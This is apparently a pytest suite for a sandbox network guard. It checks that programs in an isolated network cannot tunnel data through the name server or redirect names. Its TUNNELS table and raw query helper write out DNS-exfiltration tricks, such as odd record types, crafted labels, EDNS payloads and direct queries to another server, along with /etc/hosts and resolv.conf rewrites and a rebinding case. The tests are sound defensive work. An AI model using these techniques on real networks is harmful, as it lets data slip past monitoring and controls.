"""Names under the kernel layer, in a network of its own: what reaches the name server, and what is learned."""

import json

import pytest

from tests.sitecustomize_guard.environment import Isolated
from tests.sitecustomize_guard.supervised import PLAIN, Supervised

ZONE = {"allowed.example": ["203.0.113.1"], "rebound.example": ["127.0.0.1"], "db.internal": ["127.0.0.1"]}


def run(supervised: Supervised, code: str, *allow: str) -> Isolated:
    policy = supervised.guarded.write({"allow": list(allow)})
    command = (supervised.guard, "run", "--policy", str(policy), "--", *PLAIN, "-c", code)
    return supervised.guarded.run_isolated(ZONE, *command)


RAW = """
import os, socket, struct
def ask(name, kind=1, edns=b"", labels=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    labels = labels or [l.encode() for l in name.split(".")]
    question = b"".join(bytes([len(l)]) + l for l in labels) + b"\\0" + struct.pack("!HH", kind, 1)
    header = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0" + (b"\\1" if edns else b"\\0")
    s.sendto(header + question + edns, ("127.0.0.1", 53))
    return s.recv(4096)
"""
TUNNELS = {
    "the C library": "socket.getaddrinfo('secret.tunnel.example', 80)",
    "a query of its own": "print(ask('secret.tunnel.example')[3] & 15)",
    "TXT of a listed name": "print(ask('allowed.example', 16))",
    "NULL of a listed name": "print(ask('allowed.example', 10))",
    "below a listed name": "ask('secret.allowed.example')",
    "a dot inside a label": "ask('', labels=[b'secret.tunnel', b'example'])",
    "bytes that are no text": "ask('', labels=[b'\\xff\\xfe', b'allowed', b'example'])",
    "labels of 63 bytes": "ask('.'.join(['a' * 63] * 3) + '.tunnel.example')",
    "over TCP": "socket.create_connection(('127.0.0.1', 53), 2)",
    "to another server": "s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('203.0.113.9', 53)); s.send(b'x' * 40)",
    "what is no query": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'secret', ('127.0.0.1', 53))",
}


@pytest.mark.parametrize("case", TUNNELS)
def test_nothing_tunnels_through_the_name_server(supervised: Supervised, case: str) -> None:
    done = run(supervised, RAW + TUNNELS[case])
    assert done.asked == [], done


@pytest.mark.parametrize("case", ["TXT of a listed name", "NULL of a listed name", "below a listed name"])
def test_of_a_listed_name_only_addresses_are_asked_for(supervised: Supervised, case: str) -> None:
    done = run(supervised, RAW + TUNNELS[case], "allowed.example:80")
    assert set(done.asked) <= {"allowed.example/1", "allowed.example/28"}, done


def test_the_upstream_query_carries_nothing_but_the_name(supervised: Supervised) -> None:
    code = RAW + "print(ask('AlLoWeD.eXaMpLe', 1, b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\x08\\xfd\\xe9\\0\\4leak')[-4:])"
    done = run(supervised, code, "*.example:80")
    assert done.out.strip() == "b'\\xcb\\x00q\\x01'", done
    assert done.asked == ["allowed.example/1"]


CONNECT = """
import socket
for target in {targets}:
    try:
        socket.create_connection(target, 2)
        print("connected")
    except OSError as error:
        print(type(error).__name__)
"""


def test_the_addresses_of_a_listed_name_are_learned_and_no_others(supervised: Supervised) -> None:
    code = CONNECT.format(
        targets=[("allowed.example", 80), ("203.0.113.1", 80), ("203.0.113.1", 81), ("203.0.113.2", 80)]
    )
    done = run(supervised, code, "allowed.example:80")
    # OSError: the network is unreachable, which the kernel says and not the guard
    assert done.out.split() == ["OSError", "OSError", "PermissionError", "PermissionError"], done


def test_a_listed_name_is_reached_without_a_lookup_of_the_program(supervised: Supervised) -> None:
    code = "import time; time.sleep(1.5)" + CONNECT.format(targets=[("203.0.113.1", 80)])
    assert run(supervised, code, "allowed.example:80").out.split() == ["OSError"]


def test_a_private_answer_for_a_public_name_is_not_passed_on(supervised: Supervised) -> None:
    code = CONNECT.format(targets=[("rebound.example", 80), ("127.0.0.1", 80)])
    done = run(supervised, code, "rebound.example:80")
    assert done.out.split() == ["gaierror", "PermissionError"], done
    code = CONNECT.format(targets=[("db.internal", 80), ("127.0.0.1", 80)])
    done = run(supervised, code, "db.internal:80")
    assert done.out.split() == ["ConnectionRefusedError", "ConnectionRefusedError"], done


@pytest.mark.parametrize(
    ("file", "text"), [("hosts", "203.0.113.66 new.tunnel.example"), ("resolv.conf", "nameserver 127.0.0.2")]
)
def test_a_name_does_not_move_with_files_that_the_tree_can_write(supervised: Supervised, file: str, text: str) -> None:
    """As root of a container can: 203.0.113.66 would be reached as the listed name."""
    code = f"""
import socket
with open("/etc/{file}", "w") as f: f.write({text!r})
print(ask("new.tunnel.example")[-4:])
""" + CONNECT.format(targets=[("203.0.113.66", 80)])
    done = run(supervised, RAW + code, "*.tunnel.example:80")
    assert done.out.split() == ["b'\\xcb\\x00q\\t'", "PermissionError"], done
    assert done.asked == ["new.tunnel.example/1"]


def test_a_suffix_is_resolved_when_it_is_asked_for(supervised: Supervised) -> None:
    done = run(supervised, CONNECT.format(targets=[("new.tunnel.example", 80)]), "*.tunnel.example:80")
    assert done.out.split() == ["OSError"], done
    assert "new.tunnel.example/1" in done.asked


def test_observing_asks_for_every_name_and_reports_it(supervised: Supervised) -> None:
    report = supervised.guarded.folder / "report.json"
    code = CONNECT.format(targets=[("secret.tunnel.example", 443)])
    command = (supervised.guard, "run", "--observe", str(report), "--", *PLAIN, "-c", code)
    done = supervised.guarded.run_isolated(ZONE, *command)
    assert "secret.tunnel.example/1" in done.asked
    found = {entry["destination"] for entry in json.loads(report.read_text("utf-8"))["destinations"]}
    assert {"secret.tunnel.example", "secret.tunnel.example:443"} <= found
